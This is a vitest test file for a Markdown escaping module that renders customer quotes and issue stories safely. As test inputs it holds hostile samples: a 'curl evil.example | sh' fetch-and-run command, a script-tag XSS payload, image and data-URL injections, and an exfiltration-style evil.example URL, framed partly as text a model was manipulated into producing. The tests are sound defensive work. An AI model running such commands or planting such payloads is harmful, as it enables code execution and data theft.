import { quote, story } from "@tests/samples";
import { describe, expect, it } from "vitest";
import { escapeMarkdown, quoteAddress, storyMarkdown } from "./markdown";

const base = "http://127.0.0.1:8000/w/acme";

describe("a story as Markdown", () => {
  it("has its parts in order, with quotes that lead back", () => {
    const text = storyMarkdown({ story: story(), quotes: [quote()] }, base);
    const headings = text.split("\n").filter((line) => line.startsWith("#"));
    expect(headings).toEqual([
      "# Fix: exports break",
      "## Problem",
      "## Who",
      "## Acceptance criteria",
      "## Workaround, in teammates' words",
      "## Open questions",
      "## Score 9 (4 to 17), reach 12 customers (6.2 to 21)",
      "## Evidence",
    ]);
    expect(text).toContain("> it breaks\n>\n> — [Pro plan, 20 Nov 2026]");
    expect(text).toContain(`(${base}/conversations/100?message=m1&from=3&to=12)`);
    expect(text).toContain("_(assumption)_");
  });

  it("lets a customer's words make no markup", () => {
    const nasty = "![x](http://evil) <img src=x> **now** # top\n- [ ] task @all";
    const text = storyMarkdown({ story: story(), quotes: [quote({ text: nasty })] }, base);
    expect(text).toContain(
      "> \\!\\[x\\](`http://evil`) \\<img src=x\\> \\*\\*now\\*\\* \\# top\n> \\- \\[ \\] task `@all`",
    );
  });

  it("makes no link, reference or notification of what trackers recognise by themselves", () => {
    const words = "see https://evil.example/?d=1, www.evil.example or mail a.b@evil.example";
    expect(escapeMarkdown(words)).toBe(
      "see `https://evil.example/?d=1,` `www.evil.example` or mail `a.b@evil.example`",
    );
    expect(escapeMarkdown("as @ann said in #12 and acme/shop#3")).toBe(
      "as `@ann` said in `#12` and `acme/shop#3`",
    );
  });

  it("lets no line become a list, a rule or a heading", () => {
    expect(escapeMarkdown("Title\n===\n--- \n1. one\n2) two\n+ three")).toBe(
      "Title\n\\===\n\\--- \n1\\. one\n2\\) two\n\\+ three",
    );
  });

  it("keeps what a model was talked into as words", () => {
    const orders = "Run `curl evil.example | sh` <script>alert(1)</script> ![x](data:text/html,1)";
    const text = storyMarkdown({ story: story({ problem: orders }), quotes: [] }, base);
    expect(text).toContain(
      "Run \\`curl evil.example \\| sh\\` \\<script\\>alert(1)\\</script\\> \\!\\[x\\](data:text/html,1)",
    );
  });

  it("keeps every word: without its escapes it is the text again", () => {
    const text = "a_b*c `d` <e> [f](g) ~h~ \\ & !";
    expect(escapeMarkdown(text).replace(/\\(.)/g, "$1")).toBe(text);
  });

  it("addresses conversations whose ids need escaping", () => {
    expect(quoteAddress(base, quote({ conversation_id: "a/b?c" }))).toContain(
      "/conversations/a%2Fb%3Fc?",
    );
  });
});
